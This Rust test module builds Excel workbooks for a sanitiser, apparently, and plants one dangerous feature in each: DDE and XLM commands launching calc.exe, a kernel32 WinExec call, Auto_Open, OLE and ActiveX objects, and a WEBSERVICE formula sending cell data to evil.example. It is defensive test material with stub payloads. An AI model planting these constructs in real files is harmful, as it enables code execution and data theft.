//! Excel: a workbook builder and a planter for each danger a workbook may hold.

use super::package::{AV, KEPT, Package};
use crate::{Planted, Planter};

pub(super) const NS: &str = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\" xmlns:x14=\"http://schemas.microsoft.com/office/spreadsheetml/2009/9/main\" xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"";
pub(super) const BOOK: &str = "xl/workbook.xml";
pub(super) const SHEET: &str = "xl/worksheets/sheet1.xml";

/// A workbook of one sheet: `book` stands behind its sheets, `rows` in its data, `tail` behind the data.
pub(super) fn workbook(book: &str, rows: &str, tail: &str) -> Package {
    Package::default()
        .rel("", "rId1", "officeDocument", BOOK)
        .part(BOOK, &format!("{AV}spreadsheetml.sheet.main+xml"), format!("<workbook {NS}><sheets><sheet name=\"集計\" sheetId=\"1\" r:id=\"rId1\"/></sheets>{book}</workbook>"))
        .rel(BOOK, "rId1", "worksheet", "worksheets/sheet1.xml")
        .part(SHEET, &format!("{AV}spreadsheetml.worksheet+xml"), format!("<worksheet {NS}><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>{KEPT}</t></is></c></row>{rows}</sheetData>{tail}</worksheet>"))
}

pub(super) fn cell(formula: &str) -> String {
    format!("<row r=\"2\"><c r=\"A2\" t=\"str\"><f>{formula}</f><v>残る値</v></c></row>")
}

pub(super) fn planted(name: &str, package: &Package, gone: &[&str]) -> Planted {
    Planted {
        name: name.to_owned(),
        bytes: package.zip(),
        gone: gone.iter().map(|g| g.as_bytes().to_vec()).collect(),
        kept: vec![KEPT.as_bytes().to_vec()],
    }
}

pub(super) fn two_sheets(kind: &str, target: &str, content_type: &str, content: &str) -> Package {
    workbook("", "", "")
        .part(BOOK, &format!("{AV}spreadsheetml.sheet.main+xml"), format!("<workbook {NS}><sheets><sheet name=\"集計\" sheetId=\"1\" r:id=\"rId1\"/><sheet name=\"残る名前\" sheetId=\"2\" state=\"veryHidden\" r:id=\"rId2\"/></sheets></workbook>"))
        .rel(BOOK, "rId2", kind, target)
        .part(&format!("xl/{target}"), content_type, content)
}

macro_rules! planter {
    ($rule:literal, $shape:literal, $name:literal, $package:expr, [$($gone:expr),*]) => {
        Planter { rule: $rule, shape: $shape, plant: || planted($name, &$package, &[$($gone),*]) }
    };
}

/// Every planter of this module.
pub(super) fn planters() -> Vec<Planter> {
    vec![
        planter!("office.macro-call", "plain", "shape.xlsx", workbook("", "", "<drawing r:id=\"rId1\"/>")
            .rel(SHEET, "rId1", "drawing", "../drawings/drawing1.xml")
            .part("xl/drawings/drawing1.xml", &format!("{AV}drawing+xml"), "<xdr:wsDr xmlns:xdr=\"http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing\" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\"><xdr:absoluteAnchor><xdr:pos x=\"0\" y=\"0\"/><xdr:ext cx=\"1\" cy=\"1\"/><xdr:sp macro=\"[0]!EvilMacro\" textlink=\"\"><xdr:nvSpPr><xdr:cNvPr id=\"2\" name=\"残る図形\"/><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr/></xdr:sp><xdr:clientData/></xdr:absoluteAnchor></xdr:wsDr>"),
            ["EvilMacro"]),
        planter!("office.ole-object", "plain: on a sheet", "ole.xlsx", workbook("", "", "<oleObjects><oleObject progId=\"Package\" shapeId=\"1025\" r:id=\"rIdO\"/></oleObjects>")
            .rel(SHEET, "rIdO", "oleObject", "../embeddings/oleObject1.bin").part("xl/embeddings/oleObject1.bin", &format!("{AV}oleObject"), b"\xD0\xCF\x11\xE0 evil"),
            ["oleObject", "progId"]),
        planter!("office.activex", "plain: on a sheet", "control.xlsx", workbook("", "", "<controls><control shapeId=\"1025\" r:id=\"rIdO\" name=\"EvilBox\"/></controls>")
            .rel(SHEET, "rIdO", "control", "../activeX/activeX1.xml").part("xl/activeX/activeX1.xml", "", "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" ax:classid=\"{EVIL}\"/>"),
            ["activeX", "EvilBox", "{EVIL}"]),
        planter!("office.connection", "plain", "connection.xlsx", workbook("", "", "")
            .rel(BOOK, "rIdC", "connections", "connections.xml")
            .part("xl/connections.xml", &format!("{AV}spreadsheetml.connections+xml"), "<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><connection id=\"1\"><dbPr connection=\"Provider=evil\" command=\"SELECT 1\"/></connection></connections>"),
            ["connections", "Provider=evil"]),
        planter!("office.external-book", "plain", "external.xlsx", workbook("<externalReferences><externalReference r:id=\"rIdE\"/></externalReferences>", &cell("[1]Sheet1!A1+1"), "")
            .rel(BOOK, "rIdE", "externalLink", "externalLinks/externalLink1.xml")
            .part("xl/externalLinks/externalLink1.xml", &format!("{AV}spreadsheetml.externalLink+xml"), "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"/>"),
            ["[1]Sheet1", "externalLink", "externalReference"]),
        planter!("office.external-book", "obfuscated: in a shared formula", "shared.xlsx", workbook("", "<row r=\"2\"><c r=\"A2\"><f t=\"shared\" ref=\"A2:A3\" si=\"0\">'\\\\evil.example\\[b.xlsx]S'!A1</f><v>1</v></c></row><row r=\"3\"><c r=\"A3\"><f t=\"shared\" si=\"0\"/><v>2</v></c></row>", ""),
            ["evil.example", "shared"]),
        planter!("office.dde", "plain", "dde.xlsx", workbook("", &cell("cmd|'/c calc.exe'!A0"), ""), ["calc.exe"]),
        planter!("office.dde", "obfuscated: in a validation", "dde2.xlsx", workbook("", "", "<dataValidations count=\"1\"><dataValidation type=\"list\" sqref=\"A1\"><formula1>MSEXCEL|'..\\cmd.exe'!X</formula1></dataValidation></dataValidations>"), ["cmd.exe", "dataValidation"]),
        planter!("office.formula", "plain", "web.xlsx", workbook("", &cell("_xlfn.WEBSERVICE(&quot;http://evil.example/&quot;&amp;A1)"), ""), ["evil.example", "WEBSERVICE"]),
        planter!("office.formula", "obfuscated: case, space, condition", "call.xlsx", workbook("", "", "<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\"><formula>IF(TRUE,cAlL (\"kernel32\",\"WinExec\"),0)</formula></cfRule></conditionalFormatting>"), ["kernel32", "conditionalFormatting"]),
        planter!("office.link", "plain: in a formula", "hyper.xlsx", workbook("", &cell("HYPERLINK(&quot;file:///c:/evil.exe&quot;,&quot;x&quot;)"), ""), ["evil.exe"]),
        planter!("office.defined-name", "plain", "auto.xlsx", workbook("<definedNames><definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">Macro1!$A$1</definedName></definedNames>", "", ""), ["Auto_Open", "definedNames"]),
        planter!("office.defined-name", "obfuscated: a flag, used by a cell", "flag.xlsx", workbook("<definedNames><definedName name=\"evilname\" function=\"1\" vbProcedure=\"1\">evilsub</definedName></definedNames>", &cell("evilName+1"), ""), ["evilsub", "evilName"]),
        planter!("office.macro-sheet", "plain", "xlm.xlsx", two_sheets("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml",
            "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><row><c><f>EXEC(\"calc.exe\")</f></c></row></sheetData></xm:macrosheet>"),
            ["calc.exe", "macrosheet"]),
        planter!("office.macro-sheet", "obfuscated: said to be a worksheet", "xlm2.xlsx", two_sheets("worksheet", "worksheets/sheet2.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
            "<q:macrosheet xmlns:q=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><row><c><f>EXEC(\"calc.exe\")</f></c></row></sheetData></q:macrosheet>"),
            ["calc.exe", "macrosheet"]),
        planter!("office.dialog-sheet", "plain", "dialog.xlsx", two_sheets("dialogsheet", "dialogsheets/sheet1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.dialogsheet+xml",
            "<dialogsheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetPr codeName=\"EvilDialog\"/></dialogsheet>"),
            ["dialogsheet", "EvilDialog"]),
        planter!("office.pivot-source", "plain", "pivot.xlsx", workbook("<pivotCaches><pivotCache cacheId=\"1\" r:id=\"rIdP\"/></pivotCaches>", "", "")
            .rel(BOOK, "rIdP", "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml")
            .part("xl/pivotCache/pivotCacheDefinition1.xml", &format!("{AV}spreadsheetml.pivotCacheDefinition+xml"), format!("<pivotCacheDefinition {NS}><cacheSource type=\"external\" connectionId=\"1\"/><cacheFields count=\"0\"/></pivotCacheDefinition>"))
            .rel(SHEET, "rIdT", "pivotTable", "../pivotTables/pivotTable1.xml")
            .part("xl/pivotTables/pivotTable1.xml", &format!("{AV}spreadsheetml.pivotTable+xml"), format!("<pivotTableDefinition {NS} name=\"EvilPivot\" cacheId=\"1\"/>"))
            .rel("xl/pivotTables/pivotTable1.xml", "rId1", "pivotCacheDefinition", "../pivotCache/pivotCacheDefinition1.xml"),
            ["pivotCache", "EvilPivot"]),
        planter!("office.xml-map", "plain", "map.xlsx", workbook("", "", "")
            .rel(BOOK, "rIdM", "xmlMaps", "xmlMaps.xml").part("xl/xmlMaps.xml", "application/xml", "<MapInfo FileBindingName=\"http://evil.example/x.xml\"/>"),
            ["xmlMaps", "evil.example"]),
        planter!("office.vml", "plain: script in a note", "note.xlsx", workbook("", "", "<legacyDrawing r:id=\"rIdV\"/>")
            .rel(SHEET, "rIdV", "vmlDrawing", "../drawings/vmlDrawing1.vml")
            .part("xl/drawings/vmlDrawing1.vml", &format!("{AV}vmlDrawing"), "<xml xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:x=\"urn:schemas-microsoft-com:office:excel\"><v:shape id=\"_x0000_s1025\" type=\"#t\"><v:fill src=\"http://evil.example/a.png\"/><v:textbox><div onclick=\"evil()\">text</div></v:textbox><x:ClientData ObjectType=\"Note\"><x:ScriptText>evil()</x:ScriptText><x:FmlaMacro>EvilMacro</x:FmlaMacro><x:Row>0</x:Row><x:Column>0</x:Column></x:ClientData></v:shape></xml>"),
            ["evil.example", "evil()", "EvilMacro", "ScriptText"]),
        planter!("office.vml", "obfuscated: no XML at all", "note2.xlsx", workbook("", "", "<legacyDrawing r:id=\"rIdV\"/>")
            .rel(SHEET, "rIdV", "vmlDrawing", "../drawings/vmlDrawing1.vml")
            .part("xl/drawings/vmlDrawing1.vml", &format!("{AV}vmlDrawing"), "<xml xmlns:v=urn:schemas-microsoft-com:vml><v:shape href=http://evil.example/><br></xml>"),
            ["evil.example"]),
        planter!("office.identity", "plain: threaded comments", "persons.xlsx", workbook("", "", "")
            .rel(BOOK, "rIdP", "http://schemas.microsoft.com/office/2017/10/relationships/person", "persons/person.xml")
            .part("xl/persons/person.xml", "application/vnd.ms-excel.person+xml", "<personList xmlns=\"http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments\"><person displayName=\"山田\" id=\"{1}\" userId=\"S::yamada@secret.lg.jp\" providerId=\"AD\"/></personList>"),
            ["secret.lg.jp"]),
        planter!("office.calc-chain", "plain", "chain.xlsx", workbook("", "", "")
            .rel(BOOK, "rIdK", "calcChain", "calcChain.xml").part("xl/calcChain.xml", &format!("{AV}spreadsheetml.calcChain+xml"), "<calcChain xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><c r=\"Z99\"/></calcChain>"),
            ["calcChain", "Z99"]),
        planter!("office.custom-xml", "plain: Power Query", "query.xlsx", workbook("", "", "")
            .rel(BOOK, "rIdX", "customXml", "../customXml/item1.xml").part("customXml/item1.xml", "", "<DataMashup xmlns=\"http://schemas.microsoft.com/DataMashup\">ZXZpbA==</DataMashup>"),
            ["DataMashup", "ZXZpbA=="]),
        planter!("office.web-image", "plain", "webimage.xlsx", super::cases_excel_data::web_image(), ["_webimage", "evil.example", "vm=\"2\""]),
        planter!("office.web-publish", "plain", "publish.xlsx", workbook("<webPublishing codePage=\"932\"/><webPublishObjects count=\"1\"><webPublishObject id=\"1\" divId=\"a\" destinationFile=\"\\\\evil.example\\web\\a.htm\" autoRepublish=\"1\"/></webPublishObjects>", "", ""),
            ["webPublish", "evil.example"]),
        planter!("office.hidden-sheet", "plain: kept and told", "hidden.xlsx", two_sheets("worksheet", "worksheets/sheet2.xml", &format!("{AV}spreadsheetml.worksheet+xml"), &format!("<worksheet {NS}><sheetData/></worksheet>")), []),
    ]
}

/// A realistic table: merged cells, formulas, era dates, furigana, a validation, a condition, print settings, an ordinary name.
pub(super) fn table() -> Vec<u8> {
    workbook(
        "<definedNames><definedName name=\"_xlnm.Print_Area\" localSheetId=\"0\">集計!$A$1:$D$20</definedName><definedName name=\"単価\">集計!$B$2</definedName></definedNames><calcPr calcId=\"191029\"/>",
        "<row r=\"2\" ht=\"18\" customHeight=\"1\"><c r=\"A2\" t=\"s\"><v>0</v></c><c r=\"B2\" s=\"1\"><v>46000</v></c><c r=\"C2\"><f>SUM(B2:B10)*単価</f><v>92000</v></c><c r=\"D2\"><f t=\"array\" ref=\"D2\">SUM(IF(B2:B10&gt;0,1,0))</f><v>1</v></c></row>",
        "<mergeCells count=\"1\"><mergeCell ref=\"A3:B3\"/></mergeCells><conditionalFormatting sqref=\"B2:B10\"><cfRule type=\"expression\" priority=\"1\"><formula>$B2&gt;100</formula></cfRule></conditionalFormatting><dataValidations count=\"1\"><dataValidation type=\"list\" imeMode=\"hiragana\" sqref=\"A2\"><formula1>\"はい,いいえ\"</formula1></dataValidation></dataValidations><pageMargins left=\"0.7\" right=\"0.7\" top=\"0.75\" bottom=\"0.75\" header=\"0.3\" footer=\"0.3\"/><pageSetup paperSize=\"9\" orientation=\"landscape\"/><headerFooter><oddFooter>&amp;C&amp;\"ＭＳ ゴシック,標準\"&amp;P / &amp;N</oddFooter></headerFooter>",
    )
    .rel(BOOK, "rId2", "sharedStrings", "sharedStrings.xml")
    .part("xl/sharedStrings.xml", &format!("{AV}spreadsheetml.sharedStrings+xml"), format!("<sst {NS} count=\"1\" uniqueCount=\"1\"><si><t>髙﨑 市</t><rPh sb=\"0\" eb=\"2\"><t>タカサキ</t></rPh><phoneticPr fontId=\"1\"/></si></sst>"))
    .rel(BOOK, "rId3", "styles", "styles.xml")
    .part("xl/styles.xml", &format!("{AV}spreadsheetml.styles+xml"), format!("<styleSheet {NS}><numFmts count=\"1\"><numFmt numFmtId=\"176\" formatCode=\"[$-411]ggge&quot;年&quot;m&quot;月&quot;d&quot;日&quot;\"/></numFmts><fonts count=\"2\"><font><sz val=\"11\"/><name val=\"ＭＳ Ｐゴシック\"/></font><font><sz val=\"6\"/><name val=\"ＭＳ Ｐゴシック\"/></font></fonts><fills count=\"1\"><fill><patternFill patternType=\"none\"/></fill></fills><borders count=\"1\"><border/></borders><cellStyleXfs count=\"1\"><xf numFmtId=\"0\" fontId=\"0\" fillId=\"0\" borderId=\"0\"/></cellStyleXfs><cellXfs count=\"2\"><xf numFmtId=\"0\" fontId=\"0\" fillId=\"0\" borderId=\"0\" xfId=\"0\"/><xf numFmtId=\"176\" fontId=\"0\" fillId=\"0\" borderId=\"0\" xfId=\"0\"/></cellXfs></styleSheet>"))
    .zip()
}

/// A template.
pub(super) fn template() -> Vec<u8> {
    workbook("", "", "")
        .part(
            BOOK,
            &format!("{AV}spreadsheetml.template.main+xml"),
            format!("<workbook {NS}><sheets><sheet name=\"様式\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"),
        )
        .zip()
}
